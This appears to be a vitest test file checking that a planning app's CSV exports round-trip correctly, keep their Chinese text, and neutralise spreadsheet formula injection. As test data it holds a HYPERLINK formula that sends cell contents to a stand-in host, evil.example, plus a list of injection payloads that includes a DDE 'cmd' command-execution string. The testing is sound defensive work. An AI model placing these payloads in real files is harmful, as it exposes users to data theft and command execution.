// @vitest-environment happy-dom
// Every saved table: read again by a standard parser it holds the same values, in Chinese too, and nothing in it runs.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvOf, inert, type Cell } from '../../../src/domain/csv';
import { exportsWith } from './exports';

const LINK = 'https://map.example/?view=plan&want=industry:biomedicine:1,rail:2';
const HOSTILE_LINK = '=HYPERLINK("https://evil.example/?"&A1,"map")';
const DATE = new Date(2026, 2, 4, 0, 30);
const CLEAN = exportsWith(LINK, DATE);
const HOSTILE = exportsWith(HOSTILE_LINK, DATE);

/** As a spreadsheet reads a file of UTF-8: the mark goes, the bytes are characters. */
const bytesRead = (text: string): string =>
  new TextDecoder('utf-8', { fatal: true }).decode(new TextEncoder().encode(text));

const readCells = (text: string): string[][] => parse(text, { bom: true });

/** As the page of data tells programs: one apostrophe at the front is ours. */
const withoutGuard = (cell: string): string => cell.replace(/^'/, '');

/** Written out by hand, so that the writer is not asked what it meant. */
const writtenOut = (cell: Cell): string => (cell === null ? '' : String(cell));

const RUNS = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/;

describe.each(CLEAN.map((each) => [each.name, each] as const))('%s', (_, table) => {
  it('comes back from a standard parser as it went in', () => {
    const [names, ...rows] = readCells(table.text);
    expect(names).toEqual(table.names);
    expect(rows.map((row) => row.map(withoutGuard))).toEqual(
      table.cells.map((row) => row.map(writtenOut)),
    );
    expect(rows.length).toBeGreaterThan(9);
  });

  it('begins with the mark by which Excel sees UTF-8, and its Chinese is whole', () => {
    expect([...new TextEncoder().encode(table.text).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(readCells(bytesRead(table.text))).toEqual(readCells(table.text));
    expect(table.text).toMatch(/\p{Script=Han}/u);
    expect(table.text).not.toContain('\uFFFD');
  });

  it('has sources, the link and the day in every row', () => {
    const rows: Record<string, string>[] = parse(table.text, { bom: true, columns: true });
    for (const row of rows) {
      expect(row['link']).toBe(LINK);
      expect(row['date']).toBe('2026-03-04');
      // Only what no source says has no source.
      if (row['state'] !== 'unknown') expect(row['sources'], JSON.stringify(row)).not.toBe('');
    }
  });
});

/** What stands in Chinese in an English file too: names in both languages, and the plan's own words. */
const IN_BOTH = /_zh$|^terms$/;

/** An English sentence may name something by its Chinese name; it is not one. */
function isChinese(cell: Cell): boolean {
  const count = (letters: RegExp) => String(cell ?? '').match(letters)?.length ?? 0;
  return count(/\p{Script=Han}/gu) > count(/\p{Script=Latin}/gu);
}

it.each(CLEAN.filter(({ lang }) => lang === 'en').map((each) => [each.name, each] as const))(
  '%s says in English what it rests on',
  (_, { names, cells }) => {
    const chinese = cells.flatMap((row) =>
      row.filter((cell, at) => !IN_BOTH.test(names[at] ?? '') && isChinese(cell)),
    );
    expect(chinese).toEqual([]);
    const plan = cells.flatMap(
      (row) => /^[^;]*青政办发[^;]*/u.exec(String(row[names.indexOf('sources')])) ?? [],
    );
    for (const said of plan) expect(said).toMatch(/Qingdao's 14th Five-Year Plan/i);
  },
);

it('says in the rows where a text is guarded what the apostrophe is, and in no other', () => {
  for (const { cells, names, text } of [...CLEAN, ...HOSTILE]) {
    const at = names.indexOf('note');
    expect(at).toBe(names.length - 1);
    readCells(text)
      .slice(1)
      .forEach((row, y) => {
        const isGuarded = row.some((cell) => cell.startsWith("'"));
        expect(cells[y]?.[at] !== null).toBe(isGuarded);
      });
  }
});

it.each(HOSTILE.map((each) => [each.name, each] as const))(
  '%s holds no cell that a spreadsheet runs, whatever the link is',
  (_, { text, cells }) => {
    const rows = readCells(text).slice(1);
    expect(rows.every((row) => row.includes(`'${HOSTILE_LINK}`))).toBe(true);
    rows.forEach((row, y) =>
      row.forEach((cell, x) => {
        if (typeof cells[y]?.[x] !== 'number') expect(cell).not.toMatch(RUNS);
      }),
    );
  },
);

/** What has run in spreadsheets, and what comes near it. */
const ATTACKS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","x")',
  '+1+1',
  '-2+3+cmd|0',
  '@SUM(1+1)*cmd|0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋86',
  '－1',
  '＠SUM(A1)',
  '"=1+1"',
  '=1+1,=2+2',
  '=1+1\r\n=2+2',
  "'=1+1",
  '海洋生物医药',
  '，、；',
];

it('keeps what has run in spreadsheets from running, and brings it back', () => {
  const rows = ATTACKS.map((attack, at) => [attack, at, ATTACKS.at(-at - 1) ?? ''] as const);
  const columns = [0, 1, 2].map((at) => ({
    name: `=column${at}`,
    value: (row: readonly Cell[]) => row[at] ?? null,
  }));
  const [names, ...read] = readCells(csvOf<readonly Cell[]>(columns, rows));
  expect(names).toEqual(["'=column0", "'=column1", "'=column2"]);
  expect(read).toEqual(rows.map(([one, at, other]) => [inert(one), String(at), inert(other)]));
  for (const row of read) for (const cell of row) expect(cell).not.toMatch(RUNS);
  read.forEach(([cell = ''], at) => expect(cell.endsWith(ATTACKS[at] ?? 'missing')).toBe(true));
});
